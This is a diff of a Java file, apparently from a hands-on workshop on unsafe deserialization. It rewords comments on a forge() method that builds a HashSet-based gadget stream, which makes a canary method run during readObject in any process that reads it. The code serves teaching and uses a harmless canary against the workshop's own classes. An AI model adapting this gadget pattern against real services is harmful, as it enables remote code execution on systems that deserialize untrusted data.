@@ -9,8 +9,7 @@ import java.util.function.Supplier;
 import workshop.step01.library.Memo;
 
 /**
- * Your hat is black now. You can reach the broker, and you know what lies on the worker's class
- * path.
+ * Your hat is black now. You can reach the broker, and you know what is on the worker's class path.
  */
 public final class Attack {
 
@@ -18,13 +17,14 @@ public final class Attack {
 
     /**
      * A native stream that makes {@link Canary#sing} run in whatever process reads it: during
-     * {@code readObject}, so before any cast can look at the result. Made only of classes that the
-     * worker has: the JDK's and {@code workshop.step01.library}'s.
+     * {@code readObject}, before any cast can look at the result. It contains only classes that the
+     * worker has: the JDK's, and those of {@code workshop.step01.library}.
      */
     public static byte[] forge() throws IOException {
         var memo = new Memo(() -> "harmless while we build");
         var trap = new HashSet<Object>();
-        trap.add(memo); // asks for the hash code here, and HashSet.readObject will ask again there
+        // This calls hashCode(). HashSet.readObject will call it again.
+        trap.add(memo);
         memo.setRecipe((Supplier<Integer> & Serializable) Canary::sing);
 
         var bytes = new ByteArrayOutputStream();
